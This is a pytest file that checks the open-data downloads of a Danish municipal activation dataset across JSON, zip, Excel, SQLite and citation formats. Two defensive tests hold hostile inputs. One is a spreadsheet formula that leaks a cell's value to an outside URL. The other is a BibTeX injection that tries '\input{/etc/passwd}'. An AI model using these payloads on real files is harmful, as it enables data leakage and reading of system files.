"""Downloads every client reads right (issue 15): each output is loaded with the client that reads
it — pandas, DuckDB and a JSON Schema validator for the typed JSON, frictionless for the zips,
openpyxl for the workbooks, sqlite3 for the database — and checked against the packages' CSVs."""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path

import pytest

from aktivering.load import read_csv
from aktivering.paths import OPTIONAL_RESOURCES
from aktivering.validate import validate

ALLE = Path("downloads") / "alle"
# Columns whose cell is a date in a spreadsheet when it is one day (a month or an interval is text).
ONE_DATE = ("reference_period", "start", "end", "participants_planned_date", "participants_actual_date")


@pytest.fixture(scope="module")
def packages():
    problems, packages = validate()
    assert problems == []
    return packages


def _cells(packages, table: str) -> list[dict]:
    from aktivering.downloads import table_rows

    return [row for p in packages for row in table_rows(p, table)]


# --- 1. typed JSON ----------------------------------------------------------------------------

@pytest.mark.parametrize("table", ["documents", "figures", "initiatives", "non_figures"])
def test_json_values_have_the_table_schemas_types(built_site, packages, table):
    """The JSON held every value as a string ("36", "false", ""): in JavaScript
    `rows.filter(r => r.forecast)` kept every row. Numbers must be numbers, booleans booleans,
    empty cells null, and each equal to the CSV cell it comes from."""
    schema = json.loads((built_site / ALLE / f"{table}.schema.json").read_text(encoding="utf-8"))
    types = {name: field["type"] for name, field in schema["items"]["properties"].items()}
    rows = json.loads((built_site / ALLE / f"{table}.json").read_text(encoding="utf-8"))
    cells = _cells(packages, table)
    assert len(rows) == len(cells)
    for row, cell in zip(rows, cells):
        assert list(row) == list(cell)
        for name, text in cell.items():
            value, kind = row[name], types[name]
            if text == "":
                assert value is None, (name, value)
            elif "boolean" in kind:
                assert value is (text == "true"), (name, text)
            elif "number" in kind or "integer" in kind:
                assert isinstance(value, int | float) and not isinstance(value, bool), (name, value)
                assert value == float(text), (name, text, value)
            else:
                assert value == text


@pytest.mark.parametrize("table", ["documents", "figures", "initiatives", "non_figures"])
def test_json_is_valid_against_the_schema_it_ships_with(built_site, table):
    from jsonschema import Draft202012Validator, FormatChecker

    schema = json.loads((built_site / ALLE / f"{table}.schema.json").read_text(encoding="utf-8"))
    Draft202012Validator.check_schema(schema)
    rows = json.loads((built_site / ALLE / f"{table}.json").read_text(encoding="utf-8"))
    errors = list(Draft202012Validator(schema, format_checker=FormatChecker()).iter_errors(rows))
    assert errors == []
    # The schema is not vacuous: a value as a string, or a forecast as text, is refused.
    if table == "figures":
        bad = [dict(rows[0], value=str(rows[0]["value"])), dict(rows[0], forecast="false")]
        assert len(list(Draft202012Validator(schema).iter_errors(bad))) == 2


def test_pandas_reads_numbers_and_booleans_from_the_json(built_site, packages):
    import pandas as pd

    frame = pd.read_json(built_site / ALLE / "figures.json", dtype=False)
    cells = _cells(packages, "figures")
    assert frame["value"].dtype.kind in "if"
    assert frame["value"].sum() == pytest.approx(sum(float(c["value"]) for c in cells))
    assert frame["forecast"].dtype == bool
    assert int(frame["forecast"].sum()) == sum(c["forecast"] == "true" for c in cells)
    assert frame["value_max"].isna().sum() == sum(c["value_max"] == "" for c in cells)


def test_duckdb_reads_typed_columns_and_sums_the_values(built_site, packages):
    """DuckDB read every column as VARCHAR and `sum(value)` failed."""
    import duckdb

    path = str(built_site / ALLE / "figures.json")
    connection = duckdb.connect()
    described = connection.execute(f"DESCRIBE SELECT * FROM read_json_auto('{path}')").fetchall()
    types = {row[0]: row[1] for row in described}
    assert types["value"] in ("DOUBLE", "BIGINT") and types["forecast"] == "BOOLEAN"
    total, forecasts, rows = connection.execute(
        f"SELECT sum(value), count(*) FILTER (WHERE forecast), count(*) FROM read_json_auto('{path}')").fetchone()
    cells = _cells(packages, "figures")
    assert rows == len(cells)
    assert total == pytest.approx(sum(float(c["value"]) for c in cells))
    assert forecasts == sum(c["forecast"] == "true" for c in cells)
    documents = str(built_site / ALLE / "documents.json")
    kind = connection.execute(f"SELECT typeof(date) FROM read_json_auto('{documents}') LIMIT 1").fetchone()[0]
    assert kind == "DATE"


# --- 2. zips that are packages ------------------------------------------------------------------

def test_each_zip_opens_as_a_package_and_every_table_validates(built_site, packages):
    """The zip held everything under a folder: frictionless.Package(zip) failed, and `frictionless
    validate` on the zip said VALID having checked no table."""
    from frictionless import Package

    for package in packages:
        archive = built_site / "downloads" / f"{package.name}.zip"
        opened = Package(str(archive))
        optional = [n for n in OPTIONAL_RESOURCES if (package.folder / f"{n}.csv").exists()]  # issue 14
        assert [r.name for r in opened.resources] == ["documents", "figures", "initiatives", "non_figures",
                                                      *optional]
        report = opened.validate()
        assert report.valid, report.flatten(["rowNumber", "fieldName", "type"])
        rows = {task.name: task.stats["rows"] for task in report.tasks}
        non_figures = len(read_csv(package.folder / "non_figures.csv"))
        assert rows == {"documents": len(package.documents), "figures": len(package.figures),
                        "initiatives": len(package.initiatives), "non_figures": non_figures,
                        **{n: len(package.frame(n)) for n in optional}}


def test_zip_holds_every_file_at_its_root_listed_in_the_readme_and_dated_by_the_data(built_site, packages):
    from aktivering.model import build_site_model

    site = build_site_model(packages)
    for package in packages:
        with zipfile.ZipFile(built_site / "downloads" / f"{package.name}.zip") as zf:
            names = zf.namelist()
            readme = zf.read("README.md").decode("utf-8")
            infos = zf.infolist()
        transcripts = sorted(package.documents["transcript"])
        optional = [f"{n}.csv" for n in OPTIONAL_RESOURCES if (package.folder / f"{n}.csv").exists()]
        assert names == ["datapackage.json", "documents.csv", "figures.csv", "initiatives.csv",
                         "non_figures.csv", *optional, *transcripts, "README.md"]
        for name in names:
            assert f"`{name}`" in readme, name
        year, month, day = (int(x) for x in site.updated[package.name].split("-"))
        assert {info.date_time for info in infos} == {(year, month, day, 0, 0, 0)}


def test_zip_names_are_utf8_when_not_ascii():
    """A name outside ASCII (a transcript named by a kommune) must open as itself in any unzip."""
    import io

    from aktivering.downloads import zip_bytes

    data = zip_bytes([("transcripts/helsingør.txt", b"x"), ("README.md", b"y")], "2018-03-01")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert zf.namelist() == ["transcripts/helsingør.txt", "README.md"]
        assert zf.infolist()[0].date_time == (2018, 3, 1, 0, 0, 0)
        assert zf.infolist()[0].flag_bits & 0x800  # general purpose bit 11: the name is UTF-8
    assert "helsingør".encode() in data and zip_bytes([("a", b"x")], "2018-03-01") == \
        zip_bytes([("a", b"x")], "2018-03-01")


# --- 3. spreadsheets --------------------------------------------------------------------------

def _open(path: Path):
    from openpyxl import load_workbook

    return load_workbook(path)  # not read-only: frozen panes, filters and widths are read too


def _check_table_sheet(sheet, table: str, cells: list[dict]) -> None:
    import datetime as dt

    from aktivering import schemas

    fields = schemas.canonical(table)["fields"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == [f["name"] for f in fields]
    assert len(rows) - 1 == len(cells)
    for values, cell in zip(rows[1:], cells):
        for value, field in zip(values, fields):
            text = cell[field["name"]]
            if text == "":
                assert value is None, (field["name"], value)
            elif field["type"] in ("number", "integer"):
                assert isinstance(value, int | float) and not isinstance(value, bool) and value == float(text)
            elif field["type"] == "boolean":
                assert value is (text == "true")
            elif field["type"] == "date" or (re.fullmatch(r"\d{4}-\d\d-\d\d", text) and field["name"] in ONE_DATE):
                assert value == dt.datetime.fromisoformat(text), (field["name"], text, value)
            else:
                assert value == text, (field["name"], text, value)
    assert sheet.freeze_panes == "A2"
    if cells:
        assert sheet.auto_filter.ref == sheet.dimensions
    widths = [sheet.column_dimensions[c].width for c in "ABCDEFGHIJKLMNOPQ"[: len(fields)]]
    assert all(8 <= w <= 62 for w in widths) and len(set(widths)) > 1


def test_each_package_workbook_has_typed_cells_frozen_filtered_headers_and_om_data(built_site, packages):
    from aktivering.downloads import table_rows

    for package in packages:
        book = _open(built_site / "downloads" / f"{package.name}.xlsx")
        assert book.sheetnames == ["Tal", "Initiativer", "Breve", "Ikke-tal", "Løfter", "Nævnte breve", "Om data",
                                   "Mål", "Ydelser", "Grundlag", "Opgjort af", "Finansiering"]
        for sheet, table in (("Tal", "figures"), ("Initiativer", "initiatives"), ("Breve", "documents"),
                             ("Ikke-tal", "non_figures")):
            _check_table_sheet(book[sheet], table, table_rows(package, table))
        values = sum(c.value for c in book["Tal"]["H"][1:])  # column H is value: numbers sum
        assert values == pytest.approx(sum(float(v) for v in package.figures["value"]))


def test_om_data_has_source_licence_citation_and_every_column_and_the_code_lists(built_site, packages):
    from aktivering import schemas
    from aktivering.load import read_vocabulary

    book = _open(built_site / "downloads" / "alle" / "alle-kommuner.xlsx")
    about = {row[0]: row[1] for row in book["Om data"].iter_rows(values_only=True) if row[0]}
    assert "CC BY 4.0" in about["Licens"] and about["Citér (kort)"].startswith("Aktivering i kommunerne (")
    assert all(p.descriptor["title"] in about["Kilde"] for p in packages)
    described = {(row[0], row[1]): (row[2], row[4] or "") for row in book["Om data"].iter_rows(values_only=True)}
    for sheet, table in (("Tal", "figures"), ("Initiativer", "initiatives"), ("Breve", "documents"),
                         ("Ikke-tal", "non_figures")):
        for field in schemas.canonical(table)["fields"]:
            assert described[sheet, field["name"]] == (field["title"], field.get("description", ""))
    measures = read_vocabulary("measures")
    rows = list(book["Mål"].iter_rows(values_only=True))
    assert list(rows[0]) == list(measures.columns) and len(rows) == len(measures) + 1
    assert len(list(book["Tal"].iter_rows())) == 1 + sum(len(p.figures) for p in packages)


def test_workbook_text_never_becomes_a_formula_and_bytes_are_the_data_versions():
    """openpyxl writes a str starting with '=' as a formula: a quote "=HYPERLINK(…)" would run."""
    import io

    from openpyxl import load_workbook

    from aktivering.workbook import workbook_bytes

    hostile = '=HYPERLINK("https://example.org/?"&A1,"klik")'
    rows = [{"document_id": "101-2017-01-01", "text": hostile, "quote": "+45 12 34 56 78", "reason": "-1",
             "note": "@SUM(A1)"}]
    about = [("Titel", "=1+1"), ("Beskrivelse", "kontrol\x01tegn\x0b")]  # openpyxl refuses \x01 in a cell
    data = workbook_bytes({"non_figures": rows}, about, {}, "2018-03-01")
    assert data == workbook_bytes({"non_figures": rows}, about, {}, "2018-03-01")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert not any(b"<f>" in zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
        assert b"2018-03-01T00:00:00Z" in zf.read("docProps/core.xml")
        assert {i.date_time for i in zf.infolist()} == {(2018, 3, 1, 0, 0, 0)}
    book = load_workbook(io.BytesIO(data))
    row = [c for c in book["Ikke-tal"][2]]
    assert [c.value for c in row] == ["101-2017-01-01", hostile, "+45 12 34 56 78", "-1", "@SUM(A1)"]
    assert all(c.data_type == "s" for c in row)
    assert [c.quotePrefix for c in row] == [False, True, True, True, True]
    assert book["Om data"]["B2"].value == "=1+1" and book["Om data"]["B2"].data_type == "s"
    assert book["Om data"]["B3"].value.startswith("kontrol") and "\x01" not in book["Om data"]["B3"].value


def test_every_kommune_page_and_the_data_page_link_their_workbook(built_site, packages):
    """Kommune pages linked only a plain UTF-8 CSV, garbled in Danish Excel."""
    from aktivering.load import read_kommuner
    from aktivering.urls import kommune_page

    names = dict(zip(read_kommuner()["kommune_code"], read_kommuner()["name"]))
    pages = {p.name: kommune_page(p.kommune_code, names.get(p.kommune_code)) for p in packages}
    data = (built_site / "data" / "index.html").read_text(encoding="utf-8")
    assert 'href="../downloads/alle/alle-kommuner.xlsx"' in data
    for package in packages:
        page = built_site / pages[package.name].removesuffix(".md").removesuffix("/index") / "index.html"
        depth = len(page.relative_to(built_site).parts) - 1
        href = "../" * depth + f"downloads/{package.name}.xlsx"
        assert f'href="{href}"' in page.read_text(encoding="utf-8"), page
        assert f'href="../downloads/{package.name}.xlsx"' in data


# --- 4. SQLite ----------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def database(built_site):
    import sqlite3

    connection = sqlite3.connect(f"file:{built_site / ALLE / 'aktivering.db'}?mode=ro", uri=True)
    yield connection
    connection.close()


def test_database_holds_every_row_typed_with_keys_that_hold(database, packages):
    from aktivering.downloads import table_rows

    for table, key in (("documents", "document_id"), ("figures", "figure_id"), ("initiatives", "initiative_id")):
        ids = [row[0] for row in database.execute(f"SELECT {key} FROM {table} ORDER BY {key}")]
        assert ids == sorted(r[key] for p in packages for r in p.rows(table))
        columns = database.execute(f"PRAGMA table_info({table})").fetchall()
        assert [c[1] for c in columns if c[5]] == [key]  # the primary key
    non_figures = sum(len(table_rows(p, "non_figures")) for p in packages)
    assert database.execute("SELECT count(*) FROM non_figures").fetchone()[0] == non_figures
    assert database.execute("SELECT count(*) FROM transcripts").fetchone()[0] == sum(len(p.documents) for p in packages)
    total, forecasts, types = database.execute(
        "SELECT sum(value), sum(forecast), group_concat(DISTINCT typeof(value)) FROM figures").fetchone()
    cells = [r for p in packages for r in p.rows("figures")]
    assert total == pytest.approx(sum(float(c["value"]) for c in cells))
    assert forecasts == sum(c["forecast"] == "true" for c in cells)
    assert set(types.split(",")) <= {"integer", "real"}
    assert database.execute("SELECT count(*) FROM figures WHERE value_max IS NULL").fetchone()[0] == \
        sum(c["value_max"] == "" for c in cells)
    references = {(r[2], r[4]) for r in database.execute("PRAGMA foreign_key_list(figures)")}  # (table, to)
    assert {("documents", "document_id"), ("measures", "measure"), ("bases", "id")} <= references
    assert database.execute("PRAGMA foreign_key_check").fetchall() == []


def test_full_text_search_finds_quotes_and_transcripts(database, packages):
    figure = packages[0].rows("figures")[0]
    word = max(figure["quote"].split(), key=len).strip(".,;:()«»\"'")
    found = [row[0] for row in database.execute(
        "SELECT figure_id FROM figures_fts JOIN figures ON figures.rowid = figures_fts.rowid "
        "WHERE figures_fts MATCH ?", [f'"{word}"'])]
    assert figure["figure_id"] in found
    letters = [row[0] for row in database.execute(
        "SELECT document_id FROM transcripts_fts JOIN transcripts ON transcripts.rowid = transcripts_fts.rowid "
        "WHERE transcripts_fts MATCH ?", [f'"{word}"'])]
    assert figure["document_id"] in letters
    assert database.execute("SELECT count(*) FROM figures_fts WHERE figures_fts MATCH 'xyzzyqq'").fetchone()[0] == 0


def test_datasette_metadata_describes_every_table_and_column(built_site, database):
    meta = json.loads((built_site / ALLE / "aktivering.metadata.json").read_text(encoding="utf-8"))
    assert meta["license"] == "CC BY 4.0" and meta["license_url"].startswith("https://creativecommons.org/")
    tables = meta["databases"]["aktivering"]["tables"]
    names = [r[0] for r in database.execute("SELECT name FROM sqlite_master WHERE type = 'table' "
                                            "AND name NOT LIKE '%\\_fts\\_%' ESCAPE '\\' AND name NOT LIKE 'sqlite%'")]
    for name in names:
        assert name in tables, name
        if name.endswith("_fts"):
            assert tables[name] == {"hidden": True}
            continue
        assert tables[name]["description"]
        columns = [c[1] for c in database.execute(f"PRAGMA table_info({name})")]
        assert sorted(tables[name]["columns"]) == sorted(columns), name
    # Datasette finds a table's full-text index by its content= option.
    sql = database.execute("SELECT sql FROM sqlite_master WHERE name = 'figures_fts'").fetchone()[0]
    assert 'content="figures"' in sql and tables["figures"]["fts_table"] == "figures_fts"


# --- 5. metadata that matches ---------------------------------------------------------------------

def _cff_errors(data: dict) -> list[str]:
    from jsonschema import Draft7Validator, FormatChecker

    schema = json.loads((Path(__file__).parent / "fixtures" / "cff" / "schema-1.2.0.json").read_text(encoding="utf-8"))
    return [e.message for e in Draft7Validator(schema, format_checker=FormatChecker()).iter_errors(data)]


def test_citation_files_are_valid_cff_and_the_site_cites_what_they_say(built_site):
    """CITATION.cff had no version, release date or URL, and the site cited another author and
    title. Both CITATION.cff files must be valid CFF 1.2.0 (the schema cffconvert validates with),
    and the published one must carry the data version and the address the site cites."""
    import yaml

    from site_support import ROOT

    repository = yaml.safe_load((ROOT / "CITATION.cff").read_text(encoding="utf-8"))
    published = yaml.safe_load((built_site / "CITATION.cff").read_text(encoding="utf-8"))
    assert _cff_errors(repository) == [] and _cff_errors(published) == []
    assert _cff_errors(dict(published, **{"date-released": "1. december"})) != []  # the check can fail
    descriptor = json.loads((built_site / ALLE / "datapackage.json").read_text(encoding="utf-8"))
    assert published["version"] == str(published["date-released"]) == descriptor["version"]
    assert {k: v for k, v in published.items() if k not in ("version", "date-released", "url")} == repository
    page = (built_site / "data" / "index.html").read_text(encoding="utf-8")
    author = repository["authors"][0]["name"]
    assert f"<strong>Kort:</strong> {author} ({descriptor['version'][:4]}): Alle kommuner. " \
           f"Version {descriptor['version']}. CC BY 4.0." in page
    assert f"I: {repository['title']} [datasæt]. Version {descriptor['version']}." in page
    assert published["url"] in page.split("<strong>Fuld:</strong>")[1].split("</p>")[0]


def test_catalogue_lists_every_file_with_its_size_and_the_recommended_fields(built_site, packages):
    """catalog.ttl left out the combined dataset, every non_figures.csv, contact point, theme,
    temporal coverage, identifier, issued and byte size, and gave every kommune Denmark."""
    from rdflib import DCTERMS, RDF, Graph, Namespace, URIRef

    from aktivering.periods import bounds

    dcat = Namespace("http://www.w3.org/ns/dcat#")
    graph = Graph().parse(built_site / "catalog.ttl", format="turtle")
    datasets = {str(d).rsplit("#dataset-", 1)[1]: d for d in graph.subjects(RDF.type, dcat.Dataset)}
    assert set(datasets) == {"alle", *(p.name for p in packages)}
    # Earlier versions (downloads/versioner/, listed on aendringer/) are not files of the current dataset.
    published = {p.relative_to(built_site).as_posix() for p in (built_site / "downloads").rglob("*")
                 if p.is_file() and not p.name.endswith((".schema.json", ".metadata.json", ".bib", ".ris"))
                 and not p.relative_to(built_site).as_posix().startswith("downloads/versioner/")}
    listed = set()
    for key, node in datasets.items():
        for field in (DCTERMS.identifier, DCTERMS.issued, DCTERMS.modified, dcat.contactPoint, dcat.theme,
                      DCTERMS.temporal, DCTERMS.spatial):
            assert graph.value(node, field) is not None, (key, field)
        for distribution in graph.objects(node, dcat.distribution):
            path = str(graph.value(distribution, dcat.downloadURL)).split("/", 3)[3]
            assert graph.value(distribution, dcat.byteSize).toPython() == (built_site / path).stat().st_size, path
            listed.add(path)
        package = next((p for p in packages if p.name == key), None)
        periods = [r["reference_period"] for p in ([package] if package else packages) for r in p.rows("figures")]
        spans = [bounds(p) for p in periods]
        period = graph.value(node, DCTERMS.temporal)
        assert str(graph.value(period, dcat.startDate)) == min(a or b for a, b in spans).isoformat()
        assert str(graph.value(period, dcat.endDate)) == max(b for _, b in spans).isoformat()
        spatial = graph.value(node, DCTERMS.spatial)
        if package and package.kommune_code:
            assert spatial == URIRef(f"https://api.dataforsyningen.dk/kommuner/{int(package.kommune_code):04d}")
        else:
            assert spatial == URIRef("http://publications.europa.eu/resource/authority/country/DNK")
    # Every data file published is a distribution of some dataset (transcripts travel in the zips).
    assert published - listed == set()


def _jsonld(page: Path) -> dict:
    head = page.read_text(encoding="utf-8").split("</head>")[0]
    match = re.search(r'<script type="application/ld\+json">(.*?)</script>', head, re.S)
    assert match, page
    return json.loads(match.group(1))


def test_schema_org_dataset_has_identifier_version_and_the_figures_coverage_on_the_data_page_too(
        built_site, packages):
    """temporalCoverage spanned the letter dates (2017-09-13/2017-12-14) while the figures cover
    2016-08 to 2018-03; no identifier or version; the Data page had no Dataset at all."""
    from rdflib import DCTERMS, Graph, Namespace, URIRef

    dcat = Namespace("http://www.w3.org/ns/dcat#")
    graph = Graph().parse(built_site / "catalog.ttl", format="turtle")
    descriptor = json.loads((built_site / ALLE / "datapackage.json").read_text(encoding="utf-8"))
    pages = {"alle": built_site / "data" / "index.html", "217-helsingoer": built_site / "kommuner" / "helsingoer"
             / "index.html", "national": built_site / "national" / "index.html"}
    for key, page in pages.items():
        data = _jsonld(page)
        assert data["@type"] == "Dataset"
        period = graph.value(URIRef(data["identifier"]), DCTERMS.temporal)  # the catalogue's dataset
        assert data["temporalCoverage"] == f"{graph.value(period, dcat.startDate)}/{graph.value(period, dcat.endDate)}"
        assert data["identifier"].endswith(f"#dataset-{key}")
        if key == "217-helsingoer":  # the figures start before the first letter was written
            letters = [d for p in packages if p.name == key for d in p.column("documents", "date")]
            assert data["temporalCoverage"].split("/")[0] < min(letters)
        for distribution in data["distribution"]:
            assert (built_site / distribution["contentUrl"].split("/", 3)[3]).is_file()
    assert _jsonld(pages["alle"])["version"] == descriptor["version"]


def _bibtex_fields(entry: str) -> dict[str, str]:
    """A BibTeX entry's fields, read by brace depth (as BibTeX reads them)."""
    head, body = entry.split(",\n", 1)
    fields, depth, name, value = {}, 0, "", ""
    for line in body.rstrip().removesuffix("}").splitlines():
        if depth == 0:
            name, rest = line.strip().split(" = ", 1)
            value = rest
        else:
            value += "\n" + line
        depth = sum(1 if c == "{" else -1 if c == "}" else 0 for c in re.sub(r"\\[{}]", "", value))
        if depth == 0:
            fields[name] = value.rstrip(",")[1:-1]
    assert depth == 0
    return fields


def test_bibtex_and_ris_per_package_and_for_everything(built_site, packages):
    import yaml

    from site_support import ROOT

    cff = yaml.safe_load((ROOT / "CITATION.cff").read_text(encoding="utf-8"))
    descriptor = json.loads((built_site / ALLE / "datapackage.json").read_text(encoding="utf-8"))
    for stem in [f"downloads/{p.name}" for p in packages] + ["downloads/alle/aktivering"]:
        bib = (built_site / f"{stem}.bib").read_text(encoding="utf-8")
        assert bib.startswith("@misc{aktivering-") and "YourReferenceHere" not in bib
        fields = _bibtex_fields(bib)
        assert fields["author"] == "{" + cff["authors"][0]["name"] + "}"
        assert fields["howpublished"] == f"{cff['title']} [datasæt]"
        ris = (built_site / f"{stem}.ris").read_bytes().decode("utf-8").split("\r\n")
        assert ris[0] == "TY  - DATA" and ris[-2] == "ER  - " and ris[-1] == ""
        assert all(re.fullmatch(r"[A-Z][A-Z0-9]  - .*", line) for line in ris[:-1])
    assert _bibtex_fields((built_site / "downloads/alle/aktivering.bib").read_text(encoding="utf-8"))["version"] \
        == descriptor["version"]


def test_bibtex_and_ris_hold_hostile_titles_inside_their_field():
    """A title with braces, a backslash, % or a line break must not end the field or the entry."""
    from aktivering.opendata import bibtex_entry, ris_entry

    hostile = "Kommune} , note = {x} @misc{y, \\input{/etc/passwd} 50 % & #1 $x$ a_b ^ ~\nTY  - JOUR"
    fields = _bibtex_fields(bibtex_entry("aktivering-x", hostile, "2018-03-01", "https://example.org/p/"))
    assert set(fields) == {"author", "title", "howpublished", "year", "version", "url", "note", "language"}
    assert "\\input" not in fields["title"].replace("\\textbackslash{}input", "")
    ris = ris_entry(hostile, "2018-03-01", "https://example.org/p/").split("\r\n")
    assert [line[:2] for line in ris[:-1]] == ["TY", "AU", "TI", "T2", "PY", "DA", "ET", "PB", "UR", "LA", "N1", "ER"]


def test_combined_files_hold_every_non_figure_once(built_site, packages):
    """The combined downloads had no non_figures: the whole dataset was not in them."""
    import pandas as pd

    frame = pd.read_csv(built_site / ALLE / "non_figures.csv", dtype=str, keep_default_na=False)
    assert frame.to_dict("records") == _cells(packages, "non_figures")
    excel = pd.read_csv(built_site / ALLE / "non_figures-excel.csv", sep=";", dtype=str, keep_default_na=False,
                        encoding="utf-8-sig")
    assert len(excel) == len(frame)
    descriptor = json.loads((built_site / ALLE / "datapackage.json").read_text(encoding="utf-8"))
    assert [r["name"] for r in descriptor["resources"]] == ["documents", "figures", "initiatives", "non_figures",
                                                            "commitments", "referred_letters"]  # issue 14
